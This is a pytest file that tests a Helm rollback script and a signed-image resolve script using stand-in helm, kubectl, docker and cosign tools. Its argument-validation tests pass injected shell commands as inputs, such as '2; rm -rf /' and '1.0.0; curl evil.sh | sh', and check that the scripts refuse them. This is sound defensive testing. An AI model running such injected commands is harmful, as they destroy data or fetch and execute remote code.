"""ci/rollback.sh in dry-run and against recording stand-ins for helm and kubectl (no helm
binary and no cluster here); .github/scripts/resolve-image.sh against stand-ins for
docker buildx and cosign (no registry, no Sigstore here) that answer as they document."""

from __future__ import annotations

import json
import os
import stat
import subprocess
from pathlib import Path

import pytest

from conftest import ROOT

ROLLBACK = ROOT / "ci" / "rollback.sh"
RESOLVE = ROOT / ".github" / "scripts" / "resolve-image.sh"
DIGEST = "sha256:" + "ab" * 32


def write_tool(directory: Path, name: str, body: str) -> None:
    path = directory / name
    path.write_text("#!/usr/bin/env bash\n" + body, encoding="utf-8")
    path.chmod(path.stat().st_mode | stat.S_IXUSR)


def run(command, env=None) -> subprocess.CompletedProcess:
    return subprocess.run(command, capture_output=True, text=True, timeout=60, env={**os.environ, **(env or {})})


def test_rollback_dry_run_prints_every_command():
    result = run(["bash", str(ROLLBACK), "--release", "todo", "--namespace", "prod", "--revision", "7", "--dry-run"])
    assert result.returncode == 0, result.stderr
    commands = [line for line in result.stdout.splitlines() if line.startswith("+ ")]
    assert commands == [
        "+ helm rollback todo 7 --namespace prod --wait --timeout 10m --cleanup-on-fail",
        "+ kubectl get deployment,statefulset --namespace prod --selector app.kubernetes.io/instance=todo --output name",
        "+ kubectl rollout status <each workload listed> --namespace prod --timeout 10m",
        "+ helm status todo --namespace prod",
    ]


def test_rollback_without_a_revision_returns_to_the_previous_one():
    result = run(["bash", str(ROLLBACK), "--dry-run"])
    assert result.returncode == 0
    assert "+ helm rollback todo --namespace todo --wait" in result.stdout


@pytest.mark.parametrize(
    "arguments",
    [["--revision", "0"], ["--revision", "2; rm -rf /"], ["--release", "Todo"], ["--namespace", "a b"],
     ["--timeout", "soon"], ["--bogus"]],
)
def test_rollback_refuses_bad_arguments(arguments):
    result = run(["bash", str(ROLLBACK), *arguments, "--dry-run"])
    assert result.returncode == 2
    assert "helm rollback" not in result.stdout


def test_rollback_runs_helm_then_waits_for_each_workload(tmp_path: Path):
    log = tmp_path / "calls"
    tools = tmp_path / "bin"
    tools.mkdir()
    write_tool(tools, "helm", f'echo "helm $*" >> {log}\n')
    write_tool(
        tools, "kubectl",
        f'echo "kubectl $*" >> {log}\n'
        'if [ "$1" = get ]; then printf "deployment.apps/todo-api-gateway\\nstatefulset.apps/todo-redis\\n"; fi\n',
    )
    result = run(["bash", str(ROLLBACK), "--revision", "3"], env={"PATH": f"{tools}:{os.environ['PATH']}"})
    assert result.returncode == 0, result.stderr
    assert log.read_text().splitlines() == [
        "helm history todo --namespace todo --max 5",
        "helm rollback todo 3 --namespace todo --wait --timeout 10m --cleanup-on-fail",
        "kubectl get deployment,statefulset --namespace todo --selector app.kubernetes.io/instance=todo --output name",
        "kubectl rollout status deployment.apps/todo-api-gateway --namespace todo --timeout 10m",
        "kubectl rollout status statefulset.apps/todo-redis --namespace todo --timeout 10m",
        "helm status todo --namespace todo",
    ]


def test_rollback_fails_when_helm_fails(tmp_path: Path):
    tools = tmp_path / "bin"
    tools.mkdir()
    write_tool(tools, "helm", '[ "$1" = rollback ] && { echo "Error: release has no 3 version" >&2; exit 1; }\nexit 0\n')
    write_tool(tools, "kubectl", "exit 0\n")
    result = run(["bash", str(ROLLBACK), "--revision", "3"], env={"PATH": f"{tools}:{os.environ['PATH']}"})
    assert result.returncode == 1
    assert "no 3 version" in result.stderr


def manifest(platforms: list[str]) -> str:
    entries = [{"digest": "sha256:" + f"{i:064x}", "platform": {"os": p.split("/")[0], "architecture": p.split("/")[1]}}
               for i, p in enumerate(platforms)]
    # BuildKit's attestation manifests carry platform unknown/unknown.
    entries.append({"digest": "sha256:" + "9" * 64, "platform": {"os": "unknown", "architecture": "unknown"}})
    return json.dumps({"mediaType": "application/vnd.oci.image.index.v1+json", "digest": DIGEST, "manifests": entries})


@pytest.fixture
def registry(tmp_path: Path):
    """docker buildx imagetools inspect and cosign verify, answering from files."""
    tools = tmp_path / "bin"
    tools.mkdir()
    (tmp_path / "tags").mkdir()
    log = tmp_path / "calls"
    write_tool(
        tools, "docker",
        f'echo "docker $*" >> {log}\n'
        '[ "$1 $2 $3" = "buildx imagetools inspect" ] || exit 1\n'
        f'ref="$4"; file="{tmp_path}/tags/$(printf %s "$ref" | tr "/:@" "___")"\n'
        '[ -f "$file" ] || { echo "ERROR: $ref: not found" >&2; exit 1; }\n'
        'cat "$file"\n',
    )
    write_tool(tools, "cosign", f'echo "cosign $*" >> {log}\n[ -f {tmp_path}/unsigned ] && exit 1\nexit 0\n')

    class Registry:
        path = tools
        calls = log

        def publish(self, reference: str, platforms: list[str]) -> None:
            (tmp_path / "tags" / reference.replace("/", "_").replace(":", "_").replace("@", "_")).write_text(manifest(platforms))

        def unsign(self) -> None:
            (tmp_path / "unsigned").touch()

        def resolve(self, ref: str, *extra: str) -> subprocess.CompletedProcess:
            output = tmp_path / "github-output"
            output.write_text("")
            result = run(
                ["bash", str(RESOLVE), "--image", "ghcr.io/acme/todo", "--ref", ref, "--repository", "Acme/todo.app", *extra],
                env={"PATH": f"{tools}:{os.environ['PATH']}", "GITHUB_OUTPUT": str(output)},
            )
            result.github_output = output.read_text()
            return result

    return Registry()


def test_resolve_turns_a_release_tag_into_the_signed_digest(registry):
    registry.publish("ghcr.io/acme/todo:1.4.0", ["linux/amd64", "linux/arm64"])
    registry.publish(f"ghcr.io/acme/todo@{DIGEST}", ["linux/amd64", "linux/arm64"])
    result = registry.resolve("v1.4.0")
    assert result.returncode == 0, result.stderr
    assert f"image-ref=ghcr.io/acme/todo@{DIGEST}\ndigest={DIGEST}\n" == result.github_output
    cosign = next(line for line in registry.calls.read_text().splitlines() if line.startswith("cosign"))
    assert f"cosign verify ghcr.io/acme/todo@{DIGEST} " in cosign
    assert "--certificate-oidc-issuer https://token.actions.githubusercontent.com" in cosign
    assert r"^https://github\.com/Acme/todo\.app/\.github/workflows/ci\.yaml@refs/(heads/main|tags/v[0-9]+\.[0-9]+\.[0-9]+)$" in cosign


def test_resolve_accepts_a_digest_directly(registry):
    registry.publish(f"ghcr.io/acme/todo@{DIGEST}", ["linux/arm64", "linux/amd64"])
    result = registry.resolve(DIGEST)
    assert result.returncode == 0, result.stderr
    assert f"image-ref=ghcr.io/acme/todo@{DIGEST}" in result.github_output


def test_resolve_refuses_a_single_architecture_image(registry):
    registry.publish(f"ghcr.io/acme/todo@{DIGEST}", ["linux/amd64"])
    result = registry.resolve(DIGEST)
    assert result.returncode == 1
    assert "has no linux/arm64 image" in result.stderr
    assert result.github_output == ""


def test_resolve_refuses_an_unsigned_image(registry):
    registry.publish(f"ghcr.io/acme/todo@{DIGEST}", ["linux/amd64", "linux/arm64"])
    registry.unsign()
    result = registry.resolve(DIGEST)
    assert result.returncode != 0
    assert result.github_output == ""


def test_resolve_gives_up_on_a_missing_tag(registry):
    result = registry.resolve("2.0.0", "--wait", "0")
    assert result.returncode == 1
    assert "ghcr.io/acme/todo:2.0.0 does not exist" in result.stderr


@pytest.mark.parametrize("ref", ["1.0.0; curl evil.sh | sh", "$(id)", "", "sha256:abc", "-v"])
def test_resolve_refuses_what_is_not_a_tag_or_a_digest(registry, ref):
    result = registry.resolve(ref)
    assert result.returncode == 2
    assert not registry.calls.exists(), "nothing may be called with a bad reference"
